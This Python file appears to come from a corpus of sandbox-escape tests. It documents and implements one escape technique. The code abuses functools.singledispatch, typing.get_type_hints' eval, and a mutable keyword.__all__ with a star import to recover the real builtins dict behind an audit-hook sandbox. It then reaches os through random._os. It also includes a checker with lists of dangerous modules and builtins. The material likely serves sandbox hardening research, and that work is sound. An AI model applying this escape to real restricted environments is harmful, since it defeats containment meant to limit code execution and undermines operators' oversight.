# technique: eval(code, globals) stores the caller's builtins in globals['__builtins__'] when it is missing and only then raises the 'exec' audit event that the runtime refuses: the refusal comes after the real builtins dict is in the globals; typing.get_type_hints(module) evaluates the module's string annotations with module.__dict__ as globals, in typing's frame (real builtins), and functools.singledispatch.register(obj) calls it for any object with annotations, so functools.update_wrapper(keyword_view, f) (gives the module view f's annotations) + register(keyword_view) leaves the real builtins dict in the view's namespace; keyword.__all__ is the real module's list (shared by the view, mutable), so appending '__builtins__' and 'from keyword import *' binds the snippet's own __builtins__ global to it, and every function defined after runs with the real builtins: its 'import random' is the real __import__ (the real module, not the view; random._os is os)
# source: side effects before an audit refusal (PEP 578 hooks run after argument processing) + typing.get_type_hints eval (129) + star import binding names listed in a mutable __all__ (131) + rebinding a module's __builtins__ (043-049)
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import functools, keyword


def annotated(x: 'int'):
    pass


@functools.singledispatch
def fun(x):
    return x


functools.update_wrapper(keyword, annotated)  # the view gets annotated's annotations
try:
    fun.register(keyword)  # get_type_hints(keyword view): eval('int', view.__dict__)
except BaseException as e:
    print('register refused as expected:', type(e).__name__, str(e)[:100])

keyword.__all__.append(dn('builtins'))
from keyword import *  # __builtins__ = keyword view's __builtins__: the real builtins dict


def real_module(name):
    # defined after the star import: its builtins are the real ones, and so
    # is the __import__ its import statements call
    import random
    return random


def os_of(self):
    return self._os


def getpid():
    return os_of(real_module('random')).getpid()

attempt("import random in a function defined after 'from keyword import *' -> random._os",
        lambda: os_of(real_module('random')))
print('os.getpid() through it:', getpid())
